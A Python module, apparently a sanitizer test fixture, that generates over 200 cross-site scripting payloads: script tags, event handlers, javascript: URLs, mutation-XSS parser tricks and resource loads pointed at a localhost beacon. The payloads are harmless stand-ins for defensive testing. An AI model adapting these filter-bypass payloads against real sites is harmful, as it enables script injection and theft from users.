# SPDX-License-Identifier: Apache-2.0
"""Markup that would act if it were shown as it is: 200 and more, made from ways to act and ways to hide it."""

from __future__ import annotations

BEACON = "http://127.0.0.1:9/beacon"
ACT = "document.title='ACTED'"
_HANDLERS = (
    "onload onerror onclick onmouseover onfocus onanimationstart ontoggle onpointerenter onbegin onend onwheel "
    "onhashchange onpageshow onresize onscroll ontransitionend onmessage onbeforeprint oncanplay oncuechange"
).split()
_HOLDERS = (
    "<img src=x {}>", "<body {}>", "<svg {}>", "<details open {}>", "<video src=x {}>", "<input autofocus {}>",
)  # fmt: skip
_SINGLE = (
    f"<script>{ACT}</script>", f"<ScRiPt>{ACT}</sCrIpT>", f"<script\x0c>{ACT}</script>", f"<script/x>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>", f"<script>{ACT}", f'<script src="{BEACON}"></script>',
    f'<script type="module">{ACT}</script>', f'<link rel=stylesheet href="{BEACON}">', f'<link rel=prefetch href="{BEACON}">',
    f'<meta http-equiv=refresh content="0;url={BEACON}">', f'<base href="{BEACON}/">', f'<img src="{BEACON}">',
    f'<img srcset="{BEACON} 1x">', f'<picture><source srcset="{BEACON}"><img></picture>', f'<input type=image src="{BEACON}">',
    f'<iframe src="{BEACON}"></iframe>', f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f'<iframe src="javascript:{ACT}"></iframe>', f'<object data="{BEACON}"></object>', f'<embed src="{BEACON}">',
    f'<a href="javascript:{ACT}">x</a>', f'<a href="{BEACON}" ping="{BEACON}">x</a>', f'<a href=" &#106;avascript:{ACT}">x</a>',
    f'<form action="{BEACON}"><button>x</button></form>', f'<button formaction="javascript:{ACT}">x</button>',
    f'<div style="background:url({BEACON})">x</div>', f"<style>@import '{BEACON}';</style>",
    f"<style>body{{background:url({BEACON})}}</style>", f'<table background="{BEACON}"><tr><td>x</table>',
    f'<body background="{BEACON}">', f'<audio src="{BEACON}" autoplay></audio>', f'<video poster="{BEACON}"></video>',
    f'<svg><image href="{BEACON}"/></svg>', f'<svg><use href="{BEACON}#x"/></svg>', f"<svg><script>{ACT}</script></svg>",
    f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s></svg>', f'<svg><a xlink:href="javascript:{ACT}"><text y=9>x</text></a></svg>',
    f'<svg><foreignObject><iframe src="{BEACON}"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}">', f'<math href="javascript:{ACT}">x</math>',
    f'<svg></p><style><a id="</style><img src=1 onerror={ACT}>">', f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{ACT}">',
    f"<template><script>{ACT}</script></template>", f"<xmp><img src=x onerror={ACT}></xmp>",
    f'<textarea><img title="</textarea><img src=x onerror={ACT}>">', f'<title><img title="</title><img src=x onerror={ACT}>">',
    f"<!--><img src=x onerror={ACT}>-->", f"<!-- --!><img src=x onerror={ACT}>", f"<![CDATA[><img src=x onerror={ACT}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={ACT}>", f"<img/src=x/onerror={ACT}>", f"<img src=x\nonerror\n=\n{ACT}>",
    f"<img src=`x` onerror=`{ACT}`>", f"<img src=x onerror=&#x64;{ACT[1:]}>", f'"><img src=x onerror={ACT}>',
    f"';{ACT};//<img src=x onerror={ACT}>", "<x contenteditable onblur=" + ACT + " autofocus>y</x>",
    f'<isindex action="javascript:{ACT}">', f'<marquee onstart="{ACT}">x</marquee>', f'<dialog open onclose="{ACT}">x</dialog>',
    f'<keygen autofocus onfocus="{ACT}">', f'<frameset onload="{ACT}"><frame src="{BEACON}"></frameset>',
    f'<portal src="{BEACON}">', f'<html manifest="{BEACON}">', f"<select autofocus onfocus={ACT}><option>x</select>",
    f'<img src="data:image/svg+xml,<svg onload={ACT}>">', f'<iframe src="data:text/html,<script>{ACT}</script>"></iframe>',
    f'<object type="text/x-scriptlet" data="{BEACON}"></object>', f'<link rel=import href="{BEACON}">',
    f'<div style="width:expression({ACT})">x</div>', f'<p style="behavior:url({BEACON})">x</p>', f'<bgsound src="{BEACON}">',
    f'<img dynsrc="{BEACON}">', f'<layer src="{BEACON}"></layer>', f'<applet code="{BEACON}"></applet>',
    f"</div></body></html><script>{ACT}</script>", f'"srcdoc="<script>{ACT}</script>', f"&lt;script&gt;{ACT}&lt;/script&gt;",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = (
    *_SINGLE,
    *(holder.format(f'{name}="{ACT}"') for name in _HANDLERS for holder in _HOLDERS),
    *(f"{'<div>' * depth}<img src=x onerror={ACT}>" for depth in (10, 100, 299, 1_000, 20_000)),
)
